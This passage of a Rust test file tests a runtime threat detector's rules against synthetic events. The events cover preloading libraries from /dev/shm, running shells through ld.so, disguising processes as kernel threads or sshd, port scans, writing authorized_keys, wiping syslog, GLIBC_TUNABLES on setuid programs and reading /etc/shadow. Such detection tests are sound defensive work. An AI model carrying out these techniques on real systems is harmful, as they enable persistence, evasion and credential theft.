        ran(exec_by(602, "/tmp/a.out", &["./a.out"], &bash)),
        writable(SeverityLabel::Low)
    );
    assert_eq!(
        ran(exec_event("/tmp/payload", |e| e.process.container = container())),
        writable(SeverityLabel::Medium)
    );
    // Not from a file there: a command string run in /tmp, a system program, a memfd.
    assert!(
        ran(exec_event("/usr/bin/python3.11", |e| {
            e.argv = vec!["python3".into(), "-c".into(), "print(1)".into()];
            e.cwd = Some(PathBuf::from("/tmp"));
        }))
        .is_empty()
    );
    assert!(ran(exec_by(603, "/usr/bin/ls", &["ls", "/tmp"], &bash)).is_empty());
    assert!(ran(exec_event("/memfd:x (deleted)", |e| e.fileless = true)).is_empty());
}

#[test]
fn ld_preload_outside_the_system_libraries() {
    let preload = |value: &str, exe: &str| {
        let value = value.to_owned();
        exec_event(exe, move |e| e.ld_preload = Some(value))
    };
    let found = run_all(&[
        preload("/dev/shm/libx.so", "/usr/bin/id"),
        preload("/dev/shm/libx.so", "/usr/bin/ls"),
    ]);
    assert_eq!(found.len(), 2);
    assert!(found.iter().all(
        |(t, rule, label)| t == "DefenseEvasion:Runtime/SuspiciousCommand"
            && rule == "behaviour-ld-preload"
            && *label == SeverityLabel::High
    ));
    let mut d = detector();
    let first = d.process(&preload("/dev/shm/libx.so", "/usr/bin/id"), &NoLookup);
    let again = d.process(&preload("/dev/shm/libx.so", "/usr/bin/ls"), &NoLookup);
    assert!(first[0].new && !again[0].new, "one finding per library");
    assert_eq!(again[0].finding.count, 2);
    // GuardDuty's own field holds the variable, and the title is whole.
    assert_eq!(
        first[0].finding.context.ld_preload_value.as_deref(),
        Some("/dev/shm/libx.so")
    );
    assert!(
        first[0].finding.title.ends_with("library directories"),
        "{}",
        first[0].finding.title
    );
    let medium = run_all(&[preload("/opt/app/libhook.so", "/usr/bin/id")]);
    assert_eq!(medium[0].2, SeverityLabel::Medium);
    for benign in [
        "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
        "libfakeroot-sysv.so",
        "/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so:/lib/x86_64-linux-gnu/libeatmydata.so",
    ] {
        assert!(
            run_all(&[preload(benign, "/usr/bin/id")]).is_empty(),
            "{benign}"
        );
    }
}

#[test]
fn ld_library_path_into_memory_backed_or_world_writable_directories() {
    let search = |value: &str| {
        let value = value.to_owned();
        run_all(&[exec_event("/usr/bin/id", move |e| {
            e.ld_library_path = Some(value);
            e.cwd = Some(PathBuf::from("/tmp"));
        })])
        .into_iter()
        .map(|(t, rule, label)| (format!("{t} {rule}"), label))
        .collect::<Vec<_>>()
    };
    let raised = |label| {
        vec![(
            "DefenseEvasion:Runtime/SuspiciousCommand behaviour-ld-library-path".to_owned(),
            label,
        )]
    };
    assert_eq!(search("/dev/shm/lib"), raised(SeverityLabel::High));
    // World-writable: Low on the host (cargo's target directory in /tmp), Medium in a container.
    assert_eq!(search("/usr/lib:/tmp/x"), raised(SeverityLabel::Low));
    assert_eq!(
        search("/var/tmp/x/../lib;/usr/lib"),
        raised(SeverityLabel::Low)
    );
    // Relative to the working directory (`/tmp` here).
    assert_eq!(search("lib"), raised(SeverityLabel::Low));
    let in_container = run_all(&[exec_event("/usr/bin/id", |e| {
        e.ld_library_path = Some("/tmp/x".into());
        e.process.container = container();
    })]);
    assert_eq!(in_container[0].2, SeverityLabel::Medium);
    // One finding per directory, whatever program runs with it.
    let mut d = detector();
    let with = |exe: &str| exec_event(exe, |e| e.ld_library_path = Some("/dev/shm/l".into()));
    let first = d.process(&with("/usr/bin/id"), &NoLookup);
    let again = d.process(&with("/usr/bin/ls"), &NoLookup);
    assert!(first[0].new && !again[0].new);
    for benign in [
        "/root/src/app/target/debug/deps:/root/.rustup/toolchains/stable/lib",
        "/home/dev/build/lib",
        "/opt/app/lib",
        "/usr/lib/x86_64-linux-gnu",
        // A stray separator (`$LD_LIBRARY_PATH:/opt/x` with the variable unset).
        ":/opt/x",
        // An AppImage's own mount point.
        "/tmp/.mount_AppXYZ/usr/lib",
        // NixOS's graphics drivers (`/run/` is a state directory, not a library dump).
        "/run/opengl-driver/lib",
    ] {
        assert!(search(benign).is_empty(), "{benign}");
    }
}

#[test]
fn ld_audit_outside_the_system_libraries_as_ld_preload() {
    let audit = |value: &str, exe: &str| {
        let value = value.to_owned();
        exec_event(exe, move |e| e.ld_audit = Some(value))
    };
    let raised = |label| {
        vec![(
            "DefenseEvasion:Runtime/SuspiciousCommand".to_owned(),
            "behaviour-ld-audit".to_owned(),
            label,
        )]
    };
    assert_eq!(
        run_all(&[audit("/dev/shm/audit.so", "/usr/bin/true")]),
        raised(SeverityLabel::High)
    );
    // Relative to the working directory (`/tmp`), and a second auditor in the list.
    assert_eq!(
        run_all(&[audit(
            "/usr/lib/x86_64-linux-gnu/audit/sotruss-lib.so:./a.so",
            "/usr/bin/id"
        )]),
        raised(SeverityLabel::High)
    );
    assert_eq!(
        run_all(&[audit("/opt/app/libaudit.so", "/usr/bin/id")]),
        raised(SeverityLabel::Medium)
    );
    // One finding per library, whatever program it audits.
    let mut d = detector();
    let first = d.process(&audit("/dev/shm/a.so", "/usr/bin/id"), &NoLookup);
    let again = d.process(&audit("/dev/shm/a.so", "/usr/bin/ls"), &NoLookup);
    assert!(first[0].new && !again[0].new);
    // sotruss's auditor, latrace's, a bare name (looked up in the system's directories).
    for benign in [
        "/usr/lib/x86_64-linux-gnu/audit/sotruss-lib.so",
        "/usr/lib64/libltaudit.so.0",
        "libpcprofile.so",
    ] {
        assert!(
            run_all(&[audit(benign, "/usr/bin/id")]).is_empty(),
            "{benign}"
        );
    }
    // LD_AUDIT beside LD_PRELOAD: the record kept the preload, the auditor is unknown.
    let hidden = run_all(&[exec_event("/usr/bin/id", |e| {
        e.ld_preload = Some("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2".into());
        e.ld_audit_unread = true;
    })]);
    assert_eq!(hidden, raised(SeverityLabel::Medium));
}

/// `ld.so --preload LIB PROGRAM`, `--audit`, `--library-path`: the same findings as the
/// variables, when the executable the kernel ran is the loader.
#[test]
fn the_loader_options_as_the_loader_variables() {
    let loader = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
    let bash = [(200, "/usr/bin/bash")];
    let inputs = |exe: &str, argv: &[&str]| {
        run_all(&[exec_by(700, exe, argv, &bash)])
            .into_iter()
            .filter(|(_, rule, _)| rule != "behaviour-loader-proxy")
            .map(|(t, rule, label)| (format!("{t} {rule}"), label))
            .collect::<Vec<_>>()
    };
    let raised = |rule: &str, label| {
        vec![(
            format!("DefenseEvasion:Runtime/SuspiciousCommand {rule}"),
            label,
        )]
    };
    for (argv, rule, label) in [
        (
            vec![
                "/lib64/ld-linux-x86-64.so.2",
                "--preload",
                "/dev/shm/x.so",
                "/bin/true",
            ],
            "behaviour-ld-preload",
            SeverityLabel::High,
        ),
        (
            vec!["ld.so", "--audit", "/tmp/a.so", "/bin/true"],
            "behaviour-ld-audit",
            SeverityLabel::High,
        ),
        (
            vec![
                "ld.so",
                "--argv0",
                "x",
                "--audit",
                "/opt/a.so",
                "--",
                "/bin/true",
            ],
            "behaviour-ld-audit",
            SeverityLabel::Medium,
        ),
        (
            vec!["ld.so", "--library-path", "/dev/shm/l", "/bin/true"],
            "behaviour-ld-library-path",
            SeverityLabel::High,
        ),
        // The library is mapped in the listing mode too.
        (
            vec!["ld.so", "--list", "--preload", "/dev/shm/x.so", "/bin/true"],
            "behaviour-ld-preload",
            SeverityLabel::High,
        ),
    ] {
        assert_eq!(inputs(loader, &argv), raised(rule, label), "{argv:?}");
    }
    // The option and the variable are one finding per library.
    let mut d = detector();
    let variable = exec_event("/usr/bin/id", |e| {
        e.ld_preload = Some("/dev/shm/x.so".into())
    });
    let option = exec_by(
        700,
        loader,
        &["ld.so", "--preload", "/dev/shm/x.so", "/bin/true"],
        &bash,
    );
    assert!(d.process(&variable, &NoLookup)[0].new);
    assert!(
        d.process(&option, &NoLookup)
            .iter()
            .filter(|o| o.new)
            .all(|o| o
                .finding
                .context
                .additional
                .get("ruleId")
                .map(String::as_str)
                == Some("behaviour-loader-proxy"))
    );
    // The loader's listing and system libraries; the options given to another program, or to
    // one named like the loader.
    for (exe, argv) in [
        (loader, vec!["ld.so", "--list", "/bin/true"]),
        (
            loader,
            vec![
                "ld.so",
                "--preload",
                "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
                "/bin/true",
            ],
        ),
        (
            loader,
            vec!["ld.so", "--library-path", "/opt/app/lib", "/bin/true"],
        ),
        (
            "/usr/bin/tool",
            vec!["tool", "--preload", "/dev/shm/x.so", "/bin/true"],
        ),
        (
            "/usr/bin/python3",
            vec!["ld.so", "--audit", "/dev/shm/a.so", "/bin/true"],
        ),
    ] {
        assert!(inputs(exe, &argv).is_empty(), "{exe} {argv:?}");
    }
}

#[test]
fn programs_hidden_behind_dot_names_in_system_and_writable_directories() {
    let hidden = |e: Event| {
        run_all(&[e])
            .into_iter()
            .filter(|(_, rule, _)| rule == "behaviour-hidden-program")
            .map(|(t, _, label)| (t, label))
            .collect::<Vec<_>>()
    };
    let raised = vec![(
        "DefenseEvasion:Runtime/SuspiciousCommand".to_owned(),
        SeverityLabel::Medium,
    )];
    let bash = [(200, "/usr/bin/bash")];
    // The file the kernel ran, hashed by the pipeline (not a stand-in path).
    let exec_by = |pid, exe, argv: &[&str], lineage: &[(u32, &str)]| {
        let mut event = exec_by(pid, exe, argv, lineage);
        if let Event::Exec(e) = &mut event {
            e.sha256 = Some(crate::exe_hash::Digest::of(exe.as_bytes()));
        }
        event
    };
    for exe in [
        "/tmp/.x/.y",
        "/var/tmp/.rt/y",
        "/dev/shm/.ice/kworker",
        "/usr/lib/.cache/kdevtmpfsi",
        "/etc/.sysd",
    ] {
        assert_eq!(hidden(exec_by(700, exe, &[exe], &bash)), raised, "{exe}");
    }
    // Homes, build trees, a tempfile crate's scratch directory, an AppImage's mount point, a
    // script through a link in node_modules/.bin (its interpreter is the binary): not hiding.
    for exe in [
        "/root/.cargo/bin/cargo",
        "/home/a/.local/bin/tool",
        "/work/repo/.build/app",
        "/tmp/.tmpAbC123/test-bin",
        "/tmp/.mount_AppXyZ/AppRun",
        "/tmp/app/node_modules/.bin/esbuild",
        "/srv/app/.venv/bin/python3",
        "/usr/bin/node",
        "/tmp/x/..",
    ] {
        assert!(hidden(exec_by(701, exe, &[exe], &bash)).is_empty(), "{exe}");
    }
    // A program gone before the agent read it: the path exec'd (for a script, the script)
    // stands in for the executable, unhashed, and is not judged.
    let gone = exec_event("/tmp/.x/.y", |e| {
        e.process = proc_ref(702, ".y");
        e.sha256_error = Some("the process is gone".into());
    });
    assert!(hidden(gone).is_empty());
}

#[test]
fn processes_dressed_up_as_other_programs() {
    let masquerade = |d: &mut Detector, e: Event| {
        d.process(&e, &NoLookup)
            .into_iter()
            .map(|o| o.finding)
            .filter(|f| {
                f.context.additional.get("ruleId").map(String::as_str)
                    == Some("behaviour-masquerading")
            })
            .map(|f| {
                (
                    f.context
                        .additional
                        .get("masquerade")
                        .cloned()
                        .unwrap_or_default(),
                    f.severity_label,
                )
            })
            .collect::<Vec<_>>()
    };
    let sh_bytes = b"a shell's bytes";
    let mut d = detector()
        .with_tool_hashes([(crate::exe_hash::Digest::of(sh_bytes), "sh".to_owned())].into());
    let bash = [(200, "/usr/bin/bash")];
    // `exec -a '[kworker/0:1]' sh`: High, whatever the program.
    let got = masquerade(
        &mut d,
        exec_by(800, "/usr/bin/dash", &["[kworker/0:1]"], &bash),
    );
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0].1, SeverityLabel::High);
    let got = masquerade(
        &mut d,
        exec_by(
            801,
            "/usr/bin/python3.11",
            &["[kthreadd]", "-c", "x"],
            &bash,
        ),
    );
    assert_eq!(got.len(), 1, "{got:?}");
    // A file named like a kernel thread, run (Outlaw's `kswapd0`, a `[kthreadd]` copy of a
    // payload in /tmp): High, whatever its argv[0]. A program whose name merely starts like
    // one (`kworker-exporter`, `ksmtuned`) or a generic word is not.
    let kthread = "an executable file named like a kernel thread";
    for (pid, exe) in [
        (840, "/tmp/kswapd0"),
        (841, "/tmp/[kthreadd]"),
        (842, "/var/tmp/.x/kworker"),
        (843, "/dev/shm/kworker:0"),
    ] {
        let got = masquerade(&mut d, exec_by(pid, exe, &[exe, "-c", "x"], &bash));
        assert_eq!(got, [(kthread.to_owned(), SeverityLabel::High)], "{exe}");
    }
    for (pid, exe) in [
        (844, "/usr/local/bin/kworker-exporter"),
        (845, "/usr/sbin/ksmtuned"),
        (846, "/srv/app/migration"),
        (847, "/usr/sbin/watchdog"),
    ] {
        let got = masquerade(&mut d, exec_by(pid, exe, &[exe], &bash));
        assert!(got.is_empty(), "{exe}: {got:?}");
    }
    // A payload copied to /lib/libudev.so.6 and run (XorDDoS): High. glibc's runnable
    // libc.so.6, the loader, and names that only look versioned are not.
    let library = "an executable file named like a shared library";
    for (pid, exe) in [(850, "/usr/lib/libudev.so.6"), (851, "/tmp/libsystem.so")] {
        let got = masquerade(&mut d, exec_by(pid, exe, &[exe], &bash));
        assert_eq!(got, [(library.to_owned(), SeverityLabel::High)], "{exe}");
    }
    for (pid, exe) in [
        (852, "/usr/lib/x86_64-linux-gnu/libc.so.6"),
        (853, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"),
        (854, "/usr/bin/libreoffice"),
        (855, "/opt/x/lib.so.1"),
        (856, "/opt/x/libtool.sort"),
    ] {
        let got = masquerade(&mut d, exec_by(pid, exe, &[exe], &bash));
        assert!(got.is_empty(), "{exe}: {got:?}");
    }
    // `exec -a sshd bash`: a shell under a daemon's name, Medium.
    let got = masquerade(
        &mut d,
        exec_by(802, "/usr/bin/bash", &["sshd", "-c", "id"], &bash),
    );
    assert_eq!(
        got,
        [(
            "a shell started under another program's name".to_owned(),
            SeverityLabel::Medium
        )]
    );
    // A copy of a shell named like a daemon, known by its bytes.
    let copy = exec_event("/var/tmp/sshd", |e| {
        e.process = proc_ref(803, "sshd");
        e.argv = vec!["/var/tmp/sshd".into(), "-c".into(), "id".into()];
        e.sha256 = Some(crate::exe_hash::Digest::of(sh_bytes));
        e.lineage = bash.iter().map(|(p, x)| ancestor(*p, x)).collect();
    });
    assert_eq!(
        masquerade(&mut d, copy),
        [(
            "a copy of a shell under another program's name".to_owned(),
            SeverityLabel::Medium
        )]
    );
    // Shells' own names: login shells (`-bash`, `-su`), `sh` for dash, a restricted shell, a
    // #! script (the kernel puts the interpreter first), a copy of sh called sh.
    for (pid, exe, argv) in [
        (810, "/usr/bin/bash", vec!["-bash"]),
        (811, "/usr/bin/bash", vec!["-su"]),
        (812, "/usr/bin/dash", vec!["sh", "-c", "true"]),
        (813, "/usr/bin/bash", vec!["rbash"]),
        (814, "/usr/bin/dash", vec!["/bin/sh", "/usr/share/x/script"]),
        (815, "/usr/bin/zsh5", vec!["zsh"]),
        (816, "/usr/bin/python3.11", vec!["python3", "-c", "pass"]),
        (817, "/usr/bin/nginx", vec!["nginx: worker process"]),
    ] {
        let got = masquerade(&mut d, exec_by(pid, exe, &argv, &bash));
        assert!(got.is_empty(), "{exe} {argv:?}: {got:?}");
    }
    // Names made to pass for others in a listing (Atomic Red Team's T1036.005 and T1036.006):
    // a copy of sh in `~/...`, a copy of perl named `init  `, a `#!` script exec'd by a path
    // with a directory ending in a space; in a home too, unlike hidden names.
    let imitating = "a file or directory name that imitates another (`...`, a trailing space)";
    for (pid, exe, filename) in [
        (820, "/root/.../sh", "/root/.../sh"),
        (821, "/tmp/t/init  ", "./init  "),
        (822, "/usr/bin/perl", "./testdirwithspaceend /init "),
        (823, "/home/ann/. ./x", "/home/ann/. ./x"),
    ] {
        let e = exec_event(exe, |e| {
            e.process = proc_ref(pid, "x");
            e.filename = filename.into();
            e.argv = vec![filename.into()];
            e.lineage = bash.iter().map(|(p, x)| ancestor(*p, x)).collect();
        });
        assert_eq!(
            masquerade(&mut d, e),
            [(imitating.to_owned(), SeverityLabel::Medium)],
            "{exe} as {filename}"
        );
    }
    // `.`, `..`, dotted names and spaces inside a name are ordinary.
    for (pid, exe, filename) in [
        (830, "/home/ann/src/../bin/tool", "../bin/tool"),
        (831, "/home/ann/.local/bin/x", "./x"),
        (832, "/opt/My Tools/bin/run", "/opt/My Tools/bin/run"),
        (833, "/usr/lib/x86_64-linux-gnu/a.b.c", "a.b.c"),
    ] {
        let e = exec_event(exe, |e| {
            e.process = proc_ref(pid, "x");
            e.filename = filename.into();
            e.argv = vec![filename.into()];
            e.lineage = bash.iter().map(|(p, x)| ancestor(*p, x)).collect();
        });
        let got = masquerade(&mut d, e);
        assert!(got.is_empty(), "{exe} as {filename}: {got:?}");
    }
}

fn refused(pid: u32, host: &str, port: u16, second: u32) -> Event {
    Event::Connect(NetInfo {
        time: format!("2026-11-27T10:00:{second:02}Z"),
        process: proc_ref(pid, "probe"),
        ret: -111,
        error: Some("ECONNREFUSED".into()),
        fd: 3,
        family: "inet",
        protocol: "tcp",
        remote: Some(format!("{host}:{port}").parse().unwrap()),
        unix_path: None,
        repeats: 0,
        outcome: None,
    })
}

#[test]
fn refused_connects_to_many_ports_of_one_host_are_a_scan() {
    let scans = |d: &mut Detector, events: &[Event]| {
        events
            .iter()
            .flat_map(|e| d.process(e, &NoLookup))
            .filter(|o| {
                o.finding
                    .context
                    .additional
                    .get("ruleId")
                    .map(String::as_str)
                    == Some("behaviour-port-scan")
            })
            .count()
    };
    // Sixteen distinct ports within the window: one finding, and only one for more.
    let mut d = detector();
    let probes: Vec<Event> = (1..=40).map(|p| refused(900, "10.0.0.5", p, 1)).collect();
    assert_eq!(scans(&mut d, &probes), 1);
    // Fifteen ports, one port refused many times, ports spread beyond the window, ports of
    // many hosts: none.
    let mut d = detector();
    let probes: Vec<Event> = (1..=15).map(|p| refused(901, "10.0.0.5", p, 1)).collect();
    assert_eq!(scans(&mut d, &probes), 0);
    let probes: Vec<Event> = (0..40).map(|_| refused(902, "10.0.0.5", 80, 1)).collect();
    assert_eq!(scans(&mut d, &probes), 0);
    let probes: Vec<Event> = (1..=20)
        .map(|p| refused(903, "10.0.0.5", p, u32::from(p) * 2))
        .collect();
    assert_eq!(scans(&mut d, &probes), 0);
    let probes: Vec<Event> = (1..=40)
        .map(|h| refused(904, &format!("10.0.1.{h}"), 22, 1))
        .collect();
    assert_eq!(scans(&mut d, &probes), 0);
    // Accepted connects and connects under way are not refusals.
    let mut accepted = refused(905, "10.0.0.5", 1, 1);
    if let Event::Connect(n) = &mut accepted {
        n.error = None;
        n.ret = 0;
    }
    let probes: Vec<Event> = (0..20).map(|_| accepted.clone()).collect();
    assert_eq!(scans(&mut d, &probes), 0);
    // The table stays bounded: a flood of hosts evicts the oldest, counted.
    let probes: Vec<Event> = (0..3000u32)
        .map(|i| refused(906, &format!("10.{}.{}.1", i / 256, i % 256), 1, 1))
        .collect();
    assert_eq!(scans(&mut d, &probes), 0);
    let table = d
        .tracked()
        .into_iter()
        .find(|t| t.table == "portScans")
        .expect("portScans table");
    assert!(table.entries <= table.max_entries, "{table:?}");
    assert!(table.shed > 0, "{table:?}");
}

/// A non-blocking probe (`EINPROGRESS`) whose handshake ended as `outcome`: told at the
/// connect's exit (`late` false) or in a later `connectOutcome` event.
fn in_progress(pid: u32, port: u16, outcome: Option<&str>, late: bool) -> Event {
    let Event::Connect(mut n) = refused(pid, "10.0.0.6", port, 1) else {
        unreachable!("refused() makes a connect")
    };
    n.ret = -115;
    n.error = Some("EINPROGRESS".into());
    n.outcome = outcome.map(str::to_owned);
    if late {
        Event::ConnectOutcome(n)
    } else {
        Event::Connect(n)
    }
}

#[test]
fn non_blocking_probes_count_for_a_scan_when_their_handshake_was_refused() {
    let scans = |d: &mut Detector, events: &[Event]| {
        events
            .iter()
            .flat_map(|e| d.process(e, &NoLookup))
            .filter(|o| {
                o.finding
                    .context
                    .additional
                    .get("ruleId")
                    .map(String::as_str)
                    == Some("behaviour-port-scan")
            })
            .count()
    };
    // A scanner with a connect timeout: refusals told at the exit, later, or both mixed.
    let mut d = detector();
    let probes: Vec<Event> = (1..=20)
        .map(|p| in_progress(910, p, Some("ECONNREFUSED"), false))
        .collect();
    assert_eq!(scans(&mut d, &probes), 1);
    let probes: Vec<Event> = (1..=20)
        .map(|p| in_progress(911, p, Some("ECONNREFUSED"), p % 2 == 0))
        .collect();
    assert_eq!(scans(&mut d, &probes), 1);
    // Under way with no outcome yet, timed out, or closed before any answer: not refusals.
    for outcome in [None, Some("ETIMEDOUT"), Some("closed")] {
        let mut d = detector();
        let probes: Vec<Event> = (1..=40)
            .map(|p| in_progress(912, p, outcome, outcome.is_some()))
            .collect();
        assert_eq!(scans(&mut d, &probes), 0, "{outcome:?}");
    }
}

#[test]
fn authorized_keys_written_by_a_program_is_ssh_key_persistence() {
    // Falco's event generator writes the file itself (no shell, no argv naming it).
    let program = exec_by(
        330,
        "/root/evgen",
        &["/root/evgen"],
        &[(200, "/usr/bin/bash")],
    );
    let python = exec_by(
        331,
        "/usr/bin/python3.11",
        &["python3", "-c", "open(p, 'a').write(k)"],
        &[(200, "/usr/bin/bash")],
    );
    for (writer, pid) in [(&program, 330), (&python, 331)] {
        for path in [
            "/home/created-by-falco-event-generator/.ssh/authorized_keys",
            "/root/.ssh/authorized_keys",
            "/etc/ssh/keys/ann/authorized_keys2",
        ] {
            assert_eq!(
                persistence_kinds(&[writer.clone(), write_by(pid, "w", path)]),
                kind_of("behaviour-persistence-ssh-keys", "ssh"),
                "{path}"
            );
        }
    }
    // People's editors, the instance's cloud agent (a python script), a package: not.
    let vim = exec_by(
        332,
        "/usr/bin/vim.basic",
        &["vim", "/root/.ssh/authorized_keys"],
        &[(200, "/usr/bin/bash")],
    );
    let cloud_init = exec_event("/usr/bin/python3.11", |e| {
        e.process = proc_ref(333, "cloud-init");
        e.filename = "/usr/bin/cloud-init".into();
        e.argv = vec![
            "/usr/bin/python3".into(),
            "/usr/bin/cloud-init".into(),
            "init".into(),
        ];
        e.lineage = vec![ancestor(1, "/usr/lib/systemd/systemd")].into();
    });
    let dpkg = exec_by(
        334,
        "/usr/bin/dpkg",
        &["dpkg", "-i", "x.deb"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    for (writer, pid) in [(&vim, 332), (&cloud_init, 333), (&dpkg, 334)] {
        assert!(
            persistence_kinds(&[
                writer.clone(),
                write_by(pid, "w", "/home/ann/.ssh/authorized_keys")
            ])
            .is_empty(),
            "{pid}"
        );
    }
    // Other files of the directory, and names that only start like it.
    for path in [
        "/root/.ssh/known_hosts",
        "/root/.ssh/id_ed25519.pub",
        "/root/.ssh/authorized_keys.bak",
    ] {
        assert!(
            persistence_kinds(&[program.clone(), write_by(330, "w", path)]).is_empty(),
            "{path}"
        );
    }
}

#[test]
fn a_system_log_by_name_outside_var_log_is_wiped_at_medium() {
    let wiped = |e: Event| {
        run_all(&[e])
            .into_iter()
            .filter(|(_, rule, _)| rule == "behaviour-logs-wiped")
            .map(|(_, _, severity)| severity)
            .collect::<Vec<_>>()
    };
    // Falco's "Clear Log Activities": O_CREAT|O_TRUNC|O_WRONLY on a file named syslog.
    for path in [
        "/falco-event-generator-1234/syslog",
        "/srv/chroot/var/log/auth.log",
        "/tmp/k/kern.log",
    ] {
        assert_eq!(
            wiped(file_event("openWrite", path, |f| {
                f.open_flags = Some("1101".into())
            })),
            vec![SeverityLabel::Medium],
            "{path}"
        );
        assert_eq!(
            wiped(file_event("unlink", path, |f| f.ret = 0)),
            vec![SeverityLabel::Medium],
            "{path}"
        );
    }
    // The system's own: High, as before.
    assert_eq!(
        wiped(file_event("openWrite", "/var/log/syslog", |f| {
            f.open_flags = Some("1101".into())
        })),
        vec![SeverityLabel::High]
    );
    // Appended to, another name, or a log owner rotating: nothing.
    for e in [
        file_event("openWrite", "/srv/chroot/var/log/syslog", |f| {
            f.open_flags = Some("2101".into())
        }),
        file_event("openWrite", "/tmp/k/syslog.conf", |f| {
            f.open_flags = Some("1101".into())
        }),
        file_event("openWrite", "/tmp/k/messages", |f| {
            f.open_flags = Some("1101".into())
        }),
    ] {
        assert!(wiped(e).is_empty());
    }
}

#[test]
fn a_file_system_debugger_in_a_container_and_not_on_the_host() {
    let editor = |exe: &str, argv: &[&str], in_container: bool| {
        let argv: Vec<String> = argv.iter().map(|a| (*a).to_owned()).collect();
        run_all(&[exec_event(exe, |e| {
            e.argv = argv;
            if in_container {
                e.process.container = container();
            }
        })])
        .into_iter()
        .filter(|(_, rule, _)| rule == "behaviour-disk-editor-in-container")
        .map(|(t, _, label)| (t, label))
        .collect::<Vec<_>>()
    };
    // Falco's "Debugfs Launched in Privileged Container".
    assert_eq!(
        editor(
            "/usr/sbin/debugfs",
            &["/usr/bin/debugfs", "/dev/sda1"],
            true
        ),
        vec![(
            "PrivilegeEscalation:Runtime/SuspiciousCommand".to_owned(),
            SeverityLabel::Medium
        )]
    );
    assert_eq!(
        editor(
            "/usr/sbin/xfs_db",
            &["xfs_db", "-r", "/dev/nvme0n1p1"],
            true
        )
        .len(),
        1
    );
    // An administrator's recovery on the host; other programs in a container.
    assert!(editor("/usr/sbin/debugfs", &["debugfs", "/dev/sda1"], false).is_empty());
    assert!(editor("/usr/sbin/e2fsck", &["e2fsck", "-n", "/dev/sda1"], true).is_empty());
    assert!(editor("/usr/bin/debugfs-notes", &["debugfs-notes"], true).is_empty());
}

#[test]
fn glibc_tunables_in_the_environment_and_for_a_setuid_program() {
    let tunables = |set: bool, setuid: bool| {
        run_all(&[exec_event("/usr/bin/dash", |e| {
            e.argv = vec!["sh".into(), "-c".into(), "id".into()];
            e.glibc_tunables = set;
            e.setuid = setuid;
        })])
        .into_iter()
        .filter(|(_, rule, _)| rule == "behaviour-glibc-tunables")
        .map(|(t, _, label)| (t, label))
        .collect::<Vec<_>>()
    };
    let raised = |label| {
        vec![(
            "PrivilegeEscalation:Runtime/SuspiciousCommand".to_owned(),
            label,
        )]
    };
    // Falco's action: `sh -c id` with GLIBC_TUNABLES set; the exploit: a setuid program.
    assert_eq!(tunables(true, false), raised(SeverityLabel::Low));
    assert_eq!(tunables(true, true), raised(SeverityLabel::High));
    assert!(tunables(false, true).is_empty());
}

#[test]
fn a_program_run_through_the_dynamic_loader_and_ldd_listing_one() {
    let loader = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
    let proxied = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(_, rule, _)| rule == "behaviour-loader-proxy")
            .map(|(t, _, label)| (t, label))
            .collect::<Vec<_>>()
    };
    let raised = vec![(
        "DefenseEvasion:Runtime/SuspiciousCommand".to_owned(),
        SeverityLabel::Medium,
    )];
    let bash = [(200, "/usr/bin/bash")];
    // GTFOBins' shell, a program on a noexec mount, options before the program, other loaders.
    for (exe, argv) in [
        (loader, vec!["/lib64/ld-linux-x86-64.so.2", "/bin/sh"]),
        (loader, vec!["ld.so", "/mnt/noexec/tool", "-x"]),
        (
            loader,
            vec![
                "/lib64/ld-linux-x86-64.so.2",
                "--library-path",
                "/tmp/l",
                "--argv0",
                "sshd",
                "/tmp/x",
            ],
        ),
        (
            "/lib/ld-musl-x86_64.so.1",
            vec!["/lib/ld-musl-x86_64.so.1", "/bin/busybox", "sh"],
        ),
        (
            "/usr/lib/aarch64-linux-gnu/ld-linux-aarch64.so.1",
            vec!["/lib/ld-linux-aarch64.so.1", "/bin/sh"],
        ),
    ] {
        assert_eq!(
            proxied(&[exec_by(700, exe, &argv, &bash)]),
            raised,
            "{argv:?}"
        );
    }
    // The loader's listing modes, no program, and ldd running it on a program (the script as
    // its process's exec path, its subshell forked in between).
    for argv in [
        vec!["ld.so", "--list", "/bin/true"],
        vec!["ld.so", "--verify", "/bin/true"],
        vec!["ld.so", "--help"],
        vec!["ld.so", "--library-path", "/x"],
        vec!["ld.so"],
    ] {
        assert!(
            proxied(&[exec_by(700, loader, &argv, &bash)]).is_empty(),
            "{argv:?}"
        );
    }
    let ldd = exec_by(300, "/usr/bin/bash", &["/usr/bin/ldd", "/bin/true"], &bash);
    let traced = exec_by(
        302,
        loader,
        &["/lib64/ld-linux-x86-64.so.2", "/bin/true"],
        &[
            (301, "/usr/bin/bash"),
            (300, "/usr/bin/bash"),
            (200, "/usr/bin/bash"),
        ],
    );
    assert!(proxied(&[ldd, traced]).is_empty(), "ldd");
    // A program named like the loader elsewhere is judged by the executable the kernel ran.
    assert!(
        proxied(&[exec_by(700, "/usr/bin/true", &["ld.so", "/bin/sh"], &bash)]).is_empty(),
        "a name"
    );
}

#[test]
fn the_password_hashes_read_by_a_program_whose_job_it_is_not() {
    let read_by = |pid: u32, path: &str, error: Option<&str>| {
        file_event("openRead", path, |f| {
            f.process = proc_ref(pid, "x");
            f.matched_by = vec!["prefix", "credentials"];
            f.open_flags = None;
            if let Some(e) = error {
                f.ret = -13;
                f.error = Some(e.into());
            }
        })
    };
    let shadow_read = |events: &[Event]| {
        run_all(events)
            .into_iter()
            .filter(|(_, rule, _)| rule == "discovery-shadow-read")
            .map(|(t, _, s)| (t, s))
            .collect::<Vec<_>>()
    };
    let medium = vec![(
        "Discovery:Runtime/SuspiciousCommand".to_owned(),
        SeverityLabel::Medium,
    )];
    let python = exec_by(
        400,
        "/usr/bin/python3.11",
        &["python3", "-c", "open(p)"],
        &[(1, "/usr/lib/systemd/systemd")],
    );
    for path in [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/shadow-",
        "/etc/gshadow-",
    ] {
        assert_eq!(
            shadow_read(&[python.clone(), read_by(400, path, None)]),
            medium,
            "{path}"
        );
    }
    // Refused: the attempt.
    assert_eq!(
        shadow_read(&[python.clone(), read_by(400, "/etc/shadow", Some("EACCES"))]),
        medium
    );
